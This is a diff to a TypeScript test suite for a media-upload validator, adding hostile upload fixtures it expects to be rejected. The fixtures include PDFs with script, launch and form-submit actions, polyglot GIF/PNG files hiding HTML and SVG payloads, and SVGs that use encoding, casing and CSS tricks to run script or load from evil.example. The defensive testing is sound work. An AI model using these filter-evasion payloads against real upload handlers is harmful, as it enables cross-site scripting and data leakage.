@@ -31,6 +31,29 @@ describe('media', () => {
       '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n%%EOF',
     ],
     ['something called PDF', 'x.pdf', 'MZ\x90'],
+    ['a PDF with script', 'x.pdf', pdf('<</S/JavaScript/JS(app.alert(1))>>')],
+    ['a PDF with script in disguise', 'x.pdf', pdf('<</S/J#61vaScrip#74/JS(app.alert(1))>>')],
+    ['a PDF that starts a program', 'x.pdf', pdf('<</S /Launch /F (calc.exe)>>')],
+    ['a PDF that sends a form away', 'x.pdf', pdf('<</S/SubmitForm/F(https://evil.example/)>>')],
+    ['a PDF with a form of its own', 'x.pdf', pdf('<</XFA 3 0 R>>')],
+    ['a PDF with a player', 'x.pdf', pdf('<</Subtype/RichMedia>>')],
+    ['a frame behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from('<iframe src=//evil.example>')])],
+    ['a picture of a page behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from('<svg onload=alert(1)>')])],
+    ['an image tag behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from('<img src=x onerror=alert(1)>')])],
+    ['an archive behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from('PK\x05\x06'.padEnd(22, '\0'))])],
+    ['an SVG in another alphabet', 'x.svg', Buffer.from(`\ufeff${svg('<script/>')}`, 'utf16le')],
+    ['an SVG whose style hides a word', 'x.svg', svg('<style>@im/**/port "//evil.example/x"</style>')],
+    ['an SVG that loads a font', 'x.svg', svg('<style>*{src:url(//evil.example/x)}</style>')],
+    ['an SVG with a step of script', 'x.svg', svg('<use href="data:image/svg+xml,%3Csvg/%3E"/>')],
+    ['an SVG with a filter from outside', 'x.svg', svg('<rect filter="url(//evil.example/x#a)"/>')],
+    ['an SVG that is told what to do', 'x.svg', `<?xml-stylesheet href="//evil.example/x"?>${svg('')}`],
+    ['an SVG with a frame', 'x.svg', svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="//x"/>')],
+    ['an SVG with an event in capitals', 'x.svg', svg('<rect OnLoad="alert(1)"/>')],
+    [
+      'an SVG that animates a link',
+      'x.svg',
+      svg('<a><animate attributeName="href" values="javascript:x"/></a>'),
+    ],
     ['an SVG with script', 'x.svg', svg('<script>alert(1)</script>')],
     ['an SVG with an event', 'x.svg', svg('', ' onload="alert(1)"')],
     [
@@ -86,6 +109,10 @@ describe('media', () => {
     expect([400, 422]).toContain(status);
     attacked.expectUntouched();
   });
+
+  function pdf(object: string): string {
+    return `%PDF-1.7\n1 0 obj\n${object}\nendobj\n%%EOF\n`;
+  }
 
   function withSize(png: Buffer, side: number): Buffer {
     const bytes = Buffer.from(png);
